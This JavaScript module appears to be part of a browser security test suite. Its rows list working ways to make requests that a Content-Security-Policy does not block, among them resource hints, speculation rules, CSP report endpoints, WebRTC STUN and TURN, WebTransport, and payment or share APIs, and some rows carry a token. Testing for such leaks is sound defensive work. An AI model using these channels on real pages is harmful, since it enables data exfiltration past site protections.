// Attacks that a policy for loads does not name: hints, WebRTC, and interfaces by which the browser itself asks someone.
// See rows.mjs for what a row is.

const hints = [
  { name: 'dns-prefetch', run: (to, add) => add('link', { rel: 'dns-prefetch', href: to.unresolved }), sees: 'log' },
  { name: 'preconnect', run: (to, add) => add('link', { rel: 'preconnect', href: to.url }), sees: 'log' },
  { name: 'prefetch', run: (to, add) => add('link', { rel: 'prefetch', href: to.url }) },
  { name: 'preload', run: (to, add) => add('link', { rel: 'preload', as: 'image', href: to.url }) },
  { name: 'modulepreload', run: (to, add) => add('link', { rel: 'modulepreload', href: to.url }) },
  { name: 'prerender', run: (to, add) => add('link', { rel: 'prerender', href: to.near }), unprotected: 'top' },
  {
    name: 'icon',
    run: (to, add) => {
      document.querySelector('link[rel=icon]')?.remove()
      add('link', { rel: 'icon', href: to.url }, document.head)
    },
    unprotected: 'top',
  },
  { name: 'manifest', run: (to, add) => add('link', { rel: 'manifest', href: to.url }), unprotected: 'top' },
  {
    name: 'dictionary',
    run: (to, add) => add('link', { rel: 'compression-dictionary', href: to.near }),
    unprotected: 'page',
  },
  {
    name: 'speculation rules that prefetch',
    run: (to, add) => {
      const script = add('script', { type: 'speculationrules' }, document.createDocumentFragment())
      script.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: [to.url], eagerness: 'immediate' }] })
      document.head.append(script)
    },
    unprotected: 'top',
    tapped: true,
  },
  {
    name: 'speculation rules that prerender',
    run: (to, add) => {
      const script = add('script', { type: 'speculationrules' }, document.createDocumentFragment())
      script.textContent = JSON.stringify({ prerender: [{ source: 'list', urls: [to.near], eagerness: 'immediate' }] })
      document.head.append(script)
    },
    unprotected: 'top',
    tapped: true,
  },
  { name: 'base', run: (to, add) => (add('base', { href: to.url }), (new Image().src = 'x')), alone: true },
]

const reports = [
  {
    name: 'report-uri',
    run: (to, add) => {
      const content = `img-src data:; report-uri ${to.url}`
      add('meta', { 'http-equiv': 'Content-Security-Policy', content })
      new Image().src = 'http://blocked.localhost/'
    },
    alone: true,
  },
  {
    name: 'report-to',
    run: (to, add) => {
      add('meta', { 'http-equiv': 'Reporting-Endpoints', content: `spy="${to.url}"` })
      add('meta', { 'http-equiv': 'Content-Security-Policy', content: 'img-src data:; report-to spy' })
      new Image().src = 'http://blocked.localhost/'
    },
    alone: true,
  },
]

const sockets = [
  ...['RTCPeerConnection', 'webkitRTCPeerConnection'].map((name) => ({
    name,
    sees: 'udp',
    run: `async (to) => {
      const peer = new ${name}({ iceServers: [{ urls: to.stun }] })
      peer.createDataChannel('x')
      await peer.setLocalDescription(await peer.createOffer())
    }`,
  })),
  {
    name: 'RTCPeerConnection by TURN over TCP',
    sees: 'log',
    run: async (to) => {
      const urls = `turn:${to.unresolved.split('/')[2]}:80?transport=tcp`
      const peer = new RTCPeerConnection({ iceServers: [{ urls, username: 'x', credential: 'x' }] })
      peer.createDataChannel('x')
      await peer.setLocalDescription(await peer.createOffer())
    },
  },
  { name: 'WebTransport', run: (to) => new WebTransport(to.secure), sees: 'log' },
  {
    name: 'TCPSocket',
    run: (to) => new TCPSocket(to.host.split(':')[0], Number(to.host.split(':')[1])),
    sees: 'log',
  },
]

const browsers = [
  {
    name: 'credentials of an identity provider',
    run: (to) => navigator.credentials.get({ identity: { providers: [{ configURL: to.url, clientId: 'x' }] } }),
  },
  {
    name: 'passkey',
    run: (to) => {
      const publicKey = { challenge: new Uint8Array(16), rpId: to.host.split(':')[0] }
      return navigator.credentials.get({ publicKey })
    },
    sees: 'log',
  },
  { name: 'share', run: (to) => navigator.share({ title: to.token, url: to.url }), sees: 'log' },
  {
    name: 'payment',
    run: (to) => {
      const total = { label: 'x', amount: { currency: 'CNY', value: '1' } }
      return new PaymentRequest([{ supportedMethods: to.url }], { total }).show()
    },
    tapped: true,
  },
  { name: 'presentation', run: (to) => new PresentationRequest(to.secure).start(), sees: 'log' },
  { name: 'notification', run: (to) => new Notification('x', { icon: to.url }) },
  {
    name: 'protocol handler',
    run: (to) => navigator.registerProtocolHandler('web+x', `${to.near}?%s`),
    sees: 'log',
  },
  { name: 'topics', run: () => document.browsingTopics(), sees: 'log' },
  {
    name: 'interest group',
    run: (to) => navigator.joinAdInterestGroup({ owner: to.secure, name: 'x' }, 60),
    sees: 'log',
  },
  {
    name: 'auction',
    run: (to) => navigator.runAdAuction({ seller: to.secure, decisionLogicURL: to.secure }),
    sees: 'log',
  },
  { name: 'fenced frame', run: (to, add) => (add('fencedframe').config = new FencedFrameConfig(to.url)), sees: 'log' },
  { name: 'attributionsrc', run: (to, add) => add('img', { attributionsrc: to.url }) },
  { name: 'web install', run: (to) => navigator.install(to.url), sees: 'log' },
  {
    name: 'background fetch',
    run: async (to) => (await navigator.serviceWorker.ready).backgroundFetch.fetch('x', to.url),
    sees: 'log',
  },
  { name: 'speech', run: (to) => speechSynthesis.speak(new SpeechSynthesisUtterance(to.token)), sees: 'log' },
  { name: 'dictation', run: () => new webkitSpeechRecognition().start(), sees: 'log' },
  { name: 'position', run: () => navigator.geolocation.getCurrentPosition(() => {}), sees: 'log' },
  { name: 'search provider', run: (to) => external.AddSearchProvider(to.url), sees: 'log' },
]

export const BEYOND = [...hints, ...reports, ...sockets, ...browsers]
